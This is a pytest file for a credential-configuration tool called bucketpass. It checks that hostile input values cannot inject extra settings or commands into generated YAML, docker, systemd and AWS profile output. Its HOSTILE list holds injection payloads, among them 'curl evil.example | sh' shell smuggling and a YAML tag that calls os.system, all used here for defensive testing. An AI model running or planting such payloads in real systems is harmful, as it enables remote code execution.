"""What a hostile value could add to a file that `configure` prints: nothing."""

import shlex
from typing import Any

import pytest
import yaml

from bucketpass.configure import FORMS, Options, Site, issuer_text, service_text
from bucketpass.errors import BucketpassError
from bucketpass.model import Access, Bucket, Grant, Identity, Issuer, Service

HOSTILE = [
    "x\nprivileged: true",
    "x'; curl evil.example | sh #",
    'x" privileged="true',
    "$(curl evil.example)",
    "x,readonly=false",
    "{privileged: true}",
    "x # comment",
    "&anchor",
    "!!python/object/apply:os.system [id]",
    "x\u2028y",
    "%h",
    "<<role_arn>>",
]
FLOWS = {
    "github": Identity("github", {"repository": "acme/x", "environment": "production"}),
    "gitlab": Identity("gitlab", {"project": "acme/x", "branch": "main"}),
    "kubernetes": Identity("kubernetes", {"namespace": "ml", "service_account": "x"}),
    "keycloak": Identity("keycloak", {"client_id": "x", "subject": "6f1c"}),
    "modal": Identity("modal", {"workspace_id": "w", "environment": "e", "app": "a", "function": "f", "container_id": "c"}),
    "aws": Identity("aws", {"role_arn": "arn:aws:iam::444455556666:role/x"}),
}
ISSUERS = {
    "github": Issuer("github"),
    "gitlab": Issuer("gitlab", audience=("s3",)),
    "kubernetes": Issuer("kubernetes", "https://oidc.acme.io/one"),
    "keycloak": Issuer("keycloak", "https://id.acme.io/realms/ai", ("s3",)),
    "modal": Issuer("modal"),
    "aws": Issuer("aws", "https://abc.tokens.sts.global.api.aws", ("s3",)),
}


def site(**service: Any) -> Site:
    declared = Service(tuple(FLOWS.values()), (Grant("data", "raw/"),), **service)
    return Site(Access(ISSUERS, {"data": Bucket(name="acme-data")}, {"svc": declared}), "111122223333", "eu-west-1")


def printed(form: str, image: str) -> str:
    try:
        return service_text("svc", form, site(), Options(image=image))
    except BucketpassError:
        return ""  # refused is as good


@pytest.mark.parametrize("image", HOSTILE)
@pytest.mark.parametrize("form", ["kubernetes", "kubernetes-oauth", "compose"])
def test_a_hostile_image_is_an_image_or_is_refused(form: str, image: str) -> None:
    text = printed(form, image)
    plain = printed(form, "svc:latest")
    assert text == "" or shape(list(yaml.safe_load_all(text))) == shape(list(yaml.safe_load_all(plain)))


def shape(value: Any) -> Any:
    """The value without its texts: keys and nesting only."""
    if isinstance(value, dict):
        return {key: shape(inner) for key, inner in value.items()}
    return [shape(inner) for inner in value] if isinstance(value, list) else type(value).__name__


@pytest.mark.parametrize("image", HOSTILE)
def test_a_hostile_image_is_one_word_of_the_docker_command(image: str) -> None:
    words = shlex.split(printed("docker", image), comments=True)
    assert words[-1] == image
    assert len(words) == len(shlex.split(printed("docker", "svc:latest"), comments=True))


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("field", ["endpoint_url", "ca_bundle"])
@pytest.mark.parametrize("form", ["env", "docker", "systemd", "aws-profile", "compose", "credential-process"])
def test_a_hostile_address_adds_no_setting(form: str, field: str, value: str) -> None:
    harmless, hostile = (Site(site().access, "111122223333", "eu-west-1", **{field: text}) for text in ("harmless", value))
    try:
        text = service_text("svc", form, hostile)
    except BucketpassError:
        return
    expected = service_text("svc", form, harmless)
    if form in {"env", "docker"}:
        assert [word.replace(value, "harmless") for word in shlex.split(text, comments=True)] == shlex.split(expected, comments=True)
    elif form == "compose":
        assert shape(yaml.safe_load(text)) == shape(yaml.safe_load(expected))
    else:
        assert len(text.splitlines()) == len(expected.splitlines())


@pytest.mark.parametrize("source", HOSTILE)
def test_a_hostile_source_is_one_word_of_the_credential_process(source: str) -> None:
    try:
        text = service_text("svc", "credential-process", site(), Options(source=source))
    except BucketpassError:
        return
    command = next(line.partition(" = ")[2] for line in text.splitlines() if line.startswith("credential_process"))
    assert shlex.split(command)[5] == source


def test_no_form_prints_a_token_or_a_key() -> None:
    names = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "CLIENT_SECRET=", "BUCKETPASS_TOKEN=")
    texts = [service_text("svc", form, site()) for form in FORMS] + [issuer_text(name, site()) for name in ISSUERS]
    assert [name for name in names if any(name in text for text in texts)] == []
